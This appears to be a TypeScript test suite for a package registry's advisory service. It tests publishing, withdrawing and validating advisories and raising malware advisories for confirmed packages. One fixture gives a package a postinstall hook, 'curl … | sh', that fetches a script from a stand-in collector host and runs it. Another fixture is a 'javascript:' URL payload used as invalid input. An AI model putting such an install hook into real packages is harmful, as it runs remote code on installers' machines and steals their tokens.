// SPDX-License-Identifier: Apache-2.0
/** Advisories in this registry's own words: those of people, and those that follow from what they confirm. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { decodeLeaf, parsePackageName, parseVersion } from '@holdfast/core'
import {
  adviseMalware,
  clearMalware,
  decideHold,
  publishAdvisory,
  takeAdvisories,
  takeMeasure,
} from '../../src/flow/index.ts'
import { authorize, operator } from '../../src/identity/index.ts'
import { publishDocument } from '../live.ts'
import { assertValid } from '../schema.ts'
import { type Json, openWorld, type Someone, type World } from '../world.ts'

let world: World
let alice: Someone
let rae: Someone
let prefix: string

before(async () => {
  world = await openWorld()
  alice = await world.someone('alice')
  rae = await world.someone('rae', ['responder'])
  prefix = `x_${world.ports.store.instance.id}-`
})

after(async () => {
  assert.deepEqual(world.errors, [])
  await world.check()
  await world.close()
})

const document = (name: string, events: Json, more: Json = {}) => ({
  summary: `A flaw of ${name}`,
  affected: [{ package: { ecosystem: 'npm', name }, ranges: [{ type: 'SEMVER', events }] }],
  ...more,
})

const api = (line: string, who: Someone, body: Json) =>
  world.ask(line.replace(' ', ' /api/v1/advisories'), { token: who.token, body })

async function idsOf(name: string, version: string): Promise<string[]> {
  const body = { package: { ecosystem: 'npm', name }, version }
  const { body: told } = await world.ask('POST /osv/v1/query', { body })
  for (const each of told.vulns ?? []) assertValid('osv', each)
  return (told.vulns ?? []).map((each: Json) => each.id)
}

async function leavesOf(id: string): Promise<Json[]> {
  const events = await world.ports.store.events.search({ type: 'advisory' }, Number.MAX_SAFE_INTEGER, 1000)
  const leaves = events.map(each => decodeLeaf(each.leaf ?? '')).filter(each => each['advisory'] === id)
  return leaves.map(each => each['op']).reverse()
}

test('a responder publishes, changes and withdraws an advisory; audits follow, and the log has each step', async () => {
  await world.publish(alice, 'flawed', '1.0.0')
  await world.publish(alice, 'flawed', '1.1.0')
  const severity = [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' }]
  const made = await api(
    'POST ',
    rae,
    document('flawed', [{ introduced: '0' }, { fixed: '1.1.0' }], { severity }),
  )
  assert.equal(made.status, 201, made.text)
  const { id } = made.body
  assert.ok(id.startsWith(prefix))
  assert.deepEqual([await idsOf('flawed', '1.0.0'), await idsOf('flawed', '1.1.0')], [[id], []])
  const audit = () =>
    world.npm('POST /-/npm/v1/security/advisories/bulk', { body: { flawed: ['1.0.0', '1.1.0'] } })
  assert.deepEqual(
    (await audit()).body.flawed.map((each: Json) => each.severity),
    ['critical'],
  )
  const wider = document('flawed', [{ introduced: '0' }, { fixed: '1.2.0' }])
  assert.equal((await api(`PUT /${id}`, rae, wider)).status, 200)
  assert.deepEqual(await idsOf('flawed', '1.1.0'), [id])
  assert.equal((await api(`POST /${id}/withdraw`, rae, { words: 'we were wrong' })).status, 200)
  assert.deepEqual(await idsOf('flawed', '1.0.0'), [])
  const record = (await world.ask(`GET /osv/v1/vulns/${id}`)).body
  assert.ok(record.withdrawn !== undefined && record.details.includes('we were wrong'))
  assert.equal((await api(`PUT /${id}`, rae, wider)).body.code, 'advisory-withdrawn')
  assert.deepEqual(await leavesOf(id), ['publish', 'update', 'withdraw'])
})

test('nobody but a responder writes, and what is no advisory is refused with the reason', async () => {
  const good = document('flawed', [{ introduced: '0' }])
  assert.equal((await api('POST ', alice, good)).status, 403)
  assert.equal((await world.ask('POST /api/v1/advisories', { body: good })).status, 401)
  const bad: readonly Json[] = [
    {},
    document('flawed', [{ fixed: '1.0.0' }]),
    document('flawed', [{ introduced: 'one' }]),
    document('Not A Name', [{ introduced: '0' }]),
    document('flawed', [{ introduced: '0' }], { severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:Q' }] }),
    document('flawed', [{ introduced: '2.0.0' }, { fixed: '1.0.0' }]),
    document('flawed', [{ introduced: '0' }], { references: [{ type: 'WEB', url: 'javascript:alert(1)' }] }),
  ]
  for (const each of bad) {
    const { status, body } = await api('POST ', rae, each)
    assert.deepEqual([status, body.code], [400, 'advisory-invalid'], JSON.stringify(each))
  }
  assert.equal((await api(`PUT /${prefix}nothing`, rae, good)).status, 404)
  assert.equal((await api('PUT /GHSA-xxxx-xxxx-xxxx', rae, good)).status, 404)
})

test('a feed cannot speak under an id of this registry', async () => {
  const id = await publishAdvisory(world.ports, operator, document('flawed', [{ introduced: '0' }]))
  const record = { id, modified: '2099-01-01T00:00:00Z', withdrawn: '2099-01-01T00:00:00Z' }
  const text = JSON.stringify({ ...document('flawed', [{ introduced: '0' }]), ...record })
  const found = [{ kind: 'record', from: 'dump', text, record: JSON.parse(text) }] as const
  const taken = await takeAdvisories(world.ports, operator, 'stranger', found)
  assert.equal(taken.faults, 1)
  assert.deepEqual(await idsOf('flawed', '1.0.0'), [id])
})

test('a confirmed hold is told as malware at once, in one advisory a package; letting go takes it back', async () => {
  const stealer = { scripts: { postinstall: 'curl -fsS https://cdn.collector.example/a | sh' } }
  for (const version of ['1.0.0', '1.0.1']) {
    const body = publishDocument('thief', version, { manifest: stealer })
    assert.equal((await world.npm('PUT /thief', { token: alice.token, body })).status, 201)
    const subject = { name: parsePackageName('thief'), version: parseVersion(version) }
    await decideHold(world.ports, operator, 'confirm', subject, 'it steals tokens')
  }
  const [id = '', ...more] = await idsOf('thief', '1.0.1')
  assert.deepEqual([more, await idsOf('thief', '1.0.0'), await idsOf('thief', '1.0.2')], [[], [id], []])
  const { body } = await world.ask(`GET /osv/v1/vulns/${id}`)
  assert.deepEqual(body.database_specific, { severity: 'CRITICAL', cwe_ids: ['CWE-506'] })
  const letGo = async (version: string) => {
    const subject = { name: parsePackageName('thief'), version: parseVersion(version) }
    await takeMeasure(world.ports, operator, 'release', subject, { code: 'other', words: 'a mistake' })
  }
  await letGo('1.0.0')
  assert.deepEqual([await idsOf('thief', '1.0.0'), await idsOf('thief', '1.0.1')], [[], [id]])
  assert.equal((await world.npm('GET /thief/-/thief-1.0.0.tgz')).status, 200)
  await letGo('1.0.1')
  assert.deepEqual(await idsOf('thief', '1.0.1'), [])
  assert.deepEqual(await leavesOf(id), ['publish', 'update', 'update', 'withdraw'])
})

test('what a case confirms is said once, of all of a package where no version is named', async () => {
  const { ports } = world
  const grant = await authorize(ports, operator, 'version:contain', '')
  const found = { name: parsePackageName('evil-upstream'), versions: [], words: 'a worm' }
  const advise = () => ports.store.commit(grant, [], tx => adviseMalware(tx, ports, found))
  const id = await advise()
  assert.equal(await advise(), id)
  assert.deepEqual(await idsOf('evil-upstream', '7.0.0'), [id])
  assert.equal((await leavesOf(id)).length, 1)
  await ports.store.commit(grant, [], tx => clearMalware(tx, ports, found))
  assert.deepEqual(await idsOf('evil-upstream', '7.0.0'), [])
  assert.equal(await advise(), id)
  assert.deepEqual(await idsOf('evil-upstream', '7.0.0'), [id])
})
